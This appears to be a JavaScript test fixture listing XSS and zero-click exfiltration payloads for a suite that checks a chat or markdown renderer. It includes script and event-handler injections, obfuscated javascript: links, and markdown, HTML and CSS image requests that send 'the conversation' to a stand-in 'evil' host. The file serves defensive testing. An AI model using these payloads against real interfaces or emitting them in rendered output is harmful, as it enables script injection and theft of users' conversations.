// XSS payloads for the hostile test agent and the XSS suite. Each one, if it ever ran, would set
// `window.__pwned`, call a trap (`top.__xss` / `parent.__xss`), open a dialog or fetch from the
// "evil" origin (EVIL, given by the suite) — each of which the suite watches for.
export function payloads(EVIL) {
  const run = 'window.__pwned=1;top.__xss&&top.__xss();alert(1)'
  return [...scripting(EVIL, run), ...exfiltration(EVIL.replace(/^http:/, 'https:'))]
}

/**
 * Fetches that would carry the conversation to the attacker with no click, over `https:` (the
 * scheme a frame CSP of `img-src https:` let through, issue 20): every way markdown, HTML or CSS
 * can make a browser request an image, a stylesheet or a prefetch.
 */
export function exfiltration(HTTPS) {
  const d = '?d=the%20conversation'
  return [
    `![https exfil](${HTTPS}/md.png${d})`,
    `![https exfil ref][exfil]\n\n[exfil]: ${HTTPS}/md-ref.png${d}`,
    `[![https exfil in link](${HTTPS}/md-link.png${d})](${HTTPS}/page)`,
    `<img src="${HTTPS}/img.png${d}">`,
    `<img srcset="${HTTPS}/srcset.png${d} 1x, ${HTTPS}/srcset2.png${d} 2x">`,
    `<picture><source srcset="${HTTPS}/picture.png${d}"><img src="${HTTPS}/picture-img.png${d}"></picture>`,
    `<link rel="prefetch" href="${HTTPS}/prefetch${d}"><link rel="preload" as="image" href="${HTTPS}/preload.png${d}">`,
    `<link rel="icon" href="${HTTPS}/favicon.ico${d}">`,
    `<svg><image href="${HTTPS}/svg-image.png${d}"/></svg>`,
    `<span style="background-image:url(${HTTPS}/css-inline.png${d})">https css url</span>`,
    `<style>@import url(${HTTPS}/import.css${d});body{background:url(${HTTPS}/css-sheet.png${d})}</style>`,
    `$\\includegraphics[height=1em]{${HTTPS}/katex.png${d}}$`,
  ]
}

function scripting(EVIL, run) {
  return [
    `<script>${run}</script>`,
    `<img src=x onerror="${run}">`,
    `<svg onload="${run}">`,
    `<svg><script>${run}</script></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text y="20">svg link</text></a></svg>`,
    `<svg><animate onbegin="${run}" attributeName="x"/></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
    `<math href="javascript:${run}">math link</math>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
    `<a href="javascript:${run}">html link</a>`,
    `<a href="&#x6A;avascript:${run}">entity link</a>`,
    `[md link](javascript:${run})`,
    `[md link case](JaVaScRiPt:${run})`,
    `[md link tab](java\tscript:${run})`,
    `[md link entity](&#106;avascript:${run})`,
    `[md link zero-width](java\u200bscript:${run})`,
    `[md data link](data:text/html,<script>${run}</script>)`,
    `[md vbscript](vbscript:msgbox(1))`,
    `[md ref][evilref]\n\n[evilref]: javascript:${run}`,
    `[md title](${EVIL}/leak "t\\" onmouseover=\\"${run}")`,
    `![md image](javascript:${run})`,
    `![md svg image](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)`,
    `![md html image](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    `![x" onerror="${run}](/relative.png)`,
    `<${EVIL}/"onmouseover="${run}">`,
    `javascript:${run}`,
    `<div style="position:fixed;inset:0;z-index:99999;background:red">overlay</div>`,
    `<style>*{display:none!important}</style>`,
    `<link rel=stylesheet href="${EVIL}/leak.css">`,
    `<span style="background:url(${EVIL}/leak.png)">css url</span>`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    `<base href="${EVIL}/">`,
    `<object data="javascript:${run}"></object>`,
    `<embed src="javascript:${run}">`,
    `<form action="javascript:${run}"><button>form</button></form>`,
    `<input autofocus onfocus="${run}">`,
    `<details open ontoggle="${run}">details</details>`,
    `<body onload="${run}">`,
    `<video><source onerror="${run}"></video>`,
    `<audio src=x onerror="${run}"></audio>`,
    `<marquee onstart="${run}">marquee</marquee>`,
    `"><script>${run}</script>`,
    `'><img src=x onerror=${run}>`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&#60;img src=x onerror=${run}&#62;`,
    `\u003cscript\u003e${run}\u003c/script\u003e`,
    `＜script＞${run}＜/script＞`,
    `\u202e<img src=x onerror="${run}">`,
    `<scr<script>ipt>${run}</script>`,
    `<!--<img src="--><img src=x onerror="${run}//">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<img src="x" onerror="&#x77;indow.__pwned=1">`,
    `$\\href{javascript:${run}}{math href}$`,
    `$$\\url{javascript:${run}}$$`,
    `$\\htmlStyle{position:fixed;inset:0}{math style}$`,
    `$\\htmlClass{ck-app}{x}\\htmlId{app}{y}$`,
    '```html\n<script>' + run + '</script>\n```',
    '```js" onclick="' + run + '\ncode\n```',
    `<template><img src=x onerror="${run}"></template>`,
  ]
}
